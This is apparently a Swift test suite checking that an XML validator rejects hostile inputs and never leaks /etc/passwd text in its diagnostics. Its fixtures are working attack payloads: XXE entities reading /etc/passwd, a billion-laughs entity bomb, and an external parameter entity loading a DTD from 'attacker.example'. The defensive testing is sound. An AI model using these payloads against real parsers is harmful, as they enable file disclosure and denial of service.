import Foundation
import HeraldDiagnostics
import HeraldXML
import Testing

@Suite struct HostileInputTests {
    let validator = TestValidator.shared

    /// Text from /etc/passwd that must never show up in a diagnostic.
    static let passwdMarkers = ["root:x:0:0", "/bin/bash", "/usr/sbin/nologin", "daemon:"]

    static let xxe = Array(
        """
        <?xml version="1.0"?>
        <!DOCTYPE note [
          <!ENTITY x SYSTEM "file:///etc/passwd">
        ]>
        <note>&x;</note>

        """.utf8)

    static let xxeInXHTML = Array(
        """
        <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd" [
          <!ENTITY x SYSTEM "file:///etc/passwd">
        ]>
        <html xmlns="http://www.w3.org/1999/xhtml"><head><title>&x;</title></head><body><p>&x;</p></body></html>

        """.utf8)

    static let billionLaughs = Array(
        """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
          <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
          <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
          <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
          <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
          <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <lolz>&lol9;</lolz>

        """.utf8)

    static let externalParameterEntity = Array(
        """
        <?xml version="1.0"?>
        <!DOCTYPE note [
          <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
          %remote;
        ]>
        <note/>

        """.utf8)

    static let externalDoctypeSubset = Array(
        """
        <?xml version="1.0"?>
        <!DOCTYPE note SYSTEM "file:///etc/passwd">
        <note>hello</note>

        """.utf8)

    func assertNoLeak(_ diagnostics: [Diagnostic]) {
        let text = diagnostics.map { DiagnosticRenderer.text($0) + DiagnosticRenderer.json($0) }.joined()
        for marker in Self.passwdMarkers {
            #expect(!text.contains(marker), "diagnostics leak /etc/passwd content")
        }
    }

    @Test func externalEntityIsForbidden() throws {
        for check in [validator.checkWellFormedness, validator.validateXML] {
            let diagnostics = check(Self.xxe, "xxe.xml")
            let error = try #require(diagnostics.first)
            #expect(diagnostics.codes == ["xml.entity-forbidden"])
            #expect(error.message.contains("external entity 'x'"))
            #expect(error.location?.line == 3)
            assertNoLeak(diagnostics)
        }
    }

    @Test func externalEntityInXHTMLIsForbidden() {
        let diagnostics = validator.validateXHTML(Self.xxeInXHTML, file: "xxe.xhtml")
        #expect(diagnostics.codes == ["xml.entity-forbidden"])
        assertNoLeak(diagnostics)
    }

    @Test func entityBombIsForbiddenAtTheFirstDeclaration() throws {
        let diagnostics = validator.checkWellFormedness(Self.billionLaughs, file: "bomb.xml")
        let error = try #require(diagnostics.first)
        #expect(diagnostics.codes == ["xml.entity-forbidden"])
        #expect(error.message.contains("'lol'"))
    }

    @Test func externalParameterEntityIsForbidden() {
        let diagnostics = validator.checkWellFormedness(Self.externalParameterEntity, file: "pe.xml")
        #expect(diagnostics.codes == ["xml.entity-forbidden"])
        #expect(diagnostics.first?.message.contains("parameter entity 'remote'") == true)
    }

    @Test func externalDoctypeIsNeverLoaded() {
        // Well-formed; the external subset is not fetched, so nothing can leak.
        let diagnostics = validator.validateXML(Self.externalDoctypeSubset, file: "ext.xml")
        #expect(diagnostics.errors.isEmpty)
        assertNoLeak(diagnostics)
    }

    @Test func schemaLocationHintsAreIgnored() {
        let document = Array(
            """
            <note xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="file:///etc/passwd"/>
            """.utf8)
        let diagnostics = validator.validateXML(document, file: "hint.xml")
        #expect(diagnostics.errors.isEmpty)
        assertNoLeak(diagnostics)
    }
}
